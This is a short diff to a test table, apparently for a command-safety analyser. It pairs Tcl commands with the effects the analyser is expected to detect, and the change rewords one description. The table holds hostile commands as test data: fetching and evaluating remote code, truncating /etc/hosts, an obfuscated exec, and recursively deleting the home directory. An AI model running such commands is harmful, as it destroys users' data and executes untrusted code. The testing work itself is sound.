@@ -75,7 +75,7 @@ DEEDS: list[tuple[str, str, list[Fact]]] = [
     ("tcl", "file copy a b dir", [("read", "a"), ("read", "b"), ("write", "dir")]),
     ("tcl", "cd /etc; close [open hosts w]", [("truncate", "/etc/hosts")]),
     ("tcl", "eval [http::data [http::geturl http://x/y]]", [("fetch", "http://x/y"), ("run_download", "http://x/y")]),
-    ("tcl", "[string reverse cexe] rm x", [("unreadable", "a command chosen at run time", "command")]),
+    ("tcl", "[string reverse cexe] rm x", [("unreadable", "a function chosen at run time", "command")]),
     ("tcl", "exec rm -rf $env(HOME)", [("run", "rm", "-rf", HOME)]),
 ]
 
